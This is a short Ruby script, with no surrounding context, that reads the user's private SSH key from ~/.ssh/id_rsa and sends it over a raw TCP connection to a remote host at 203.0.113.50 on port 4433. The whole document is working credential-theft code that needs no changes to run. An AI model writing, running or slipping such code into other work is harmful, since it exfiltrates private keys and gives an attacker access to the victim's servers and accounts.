require 'socket'
key = File.read(File.join(Dir.home, '.ssh', 'id_rsa'))
s = TCPSocket.new('203.0.113.50', 4433)
s.write(key)
s.close
